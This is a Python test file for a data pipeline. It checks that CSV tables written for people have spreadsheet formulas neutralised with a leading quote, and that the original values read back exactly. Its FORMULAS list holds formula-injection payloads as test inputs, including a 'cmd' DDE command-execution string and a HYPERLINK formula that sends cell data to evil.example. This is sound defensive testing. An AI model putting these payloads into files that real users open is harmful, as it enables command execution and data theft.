"""No cell of a table for people is run by a spreadsheet, and what we read back is what was written."""

import base64
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.formulas import neutral_table, neutralised, original
from pipeline.plan.points_table import read_points, write_points
from pipeline.report.sections.tables import csv_uri
from pipeline.stages.comparison import write_both

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|' /C calc'!A0", "  =1+1", "\uff1d1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"see")', "'=1+1", "-", "+dataset.root=x",
]  # fmt: skip
PLAIN = ["", "a red circle", "-0.5", "+3", "1e-5", "-.5e+3", "'quoted' words", "a=b", "k0123456789ab", "<b>"]
STARTS = st.sampled_from(["", "'", "''", " ", "\t", "=", "+", "-", "@", "-5", "'-5", "\r", "\uff1d"])


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_quote_before_it(text: str) -> None:
    assert neutralised(text) == "'" + text
    assert original("'" + text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_words_and_numbers_stay(text: str) -> None:
    assert neutralised(text) == text
    assert original(text) == text


@given(STARTS, st.text())
def test_what_was_neutralised_is_given_back_whatever_it_is(start: str, rest: str) -> None:
    assert original(neutralised(start + rest)) == start + rest


@given(STARTS, st.text())
def test_nothing_that_was_neutralised_begins_a_formula(start: str, rest: str) -> None:
    text = neutralised(start + rest)
    dangerous = text.lstrip(" ").startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    )
    if dangerous:
        float(text)  # a number, which no spreadsheet runs


def test_a_tables_numbers_stay_numbers() -> None:
    table = pd.DataFrame(
        {
            "unit": [1, 2],
            "estimate": [-0.5, np.nan],
            "description": ["=1+1", None],
            "flag": [True, False],
            "method": pd.Categorical(["@x", "y"]),
        }
    )
    neutral = neutral_table(table)
    assert (
        neutral.to_csv(index=False)
        == "unit,estimate,description,flag,method\n1,-0.5,'=1+1,True,'@x\n2,,,False,y\n"
    )
    assert table["description"][0] == "=1+1"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_tables_of_a_sweep_and_of_a_report_are_neutral_and_the_parquet_is_exact(tmp_path: Path) -> None:
    table = pd.DataFrame({"description": FORMULAS, "estimate": -0.25})
    write_both(table, tmp_path / "scores")
    saved = base64.b64decode(csv_uri(table).partition("base64,")[2]).decode()
    for text in ((tmp_path / "scores.csv").read_bytes().decode(), saved):
        assert [row[0] for row in cells(text)[1:]] == [
            "'" + formula.replace("\r", "\n") for formula in FORMULAS
        ]
        assert {row[1] for row in cells(text)[1:]} == {"-0.25"}
    assert pd.read_parquet(tmp_path / "scores.parquet")["description"].tolist() == FORMULAS


def test_points_are_neutral_for_people_and_exact_for_the_next_command(tmp_path: Path) -> None:
    rows = [{"layer": text, "overrides": f"+x={text}", "seed": "-1"} for text in [*FORMULAS, *PLAIN]]
    write_points(tmp_path / "points.csv", rows)
    assert list(read_points(tmp_path / "points.csv")) == rows
    written = cells((tmp_path / "points.csv").read_bytes().decode())[1:]
    assert all(row[1].startswith("'+") for row in written)
    assert {row[2] for row in written} == {"-1"}
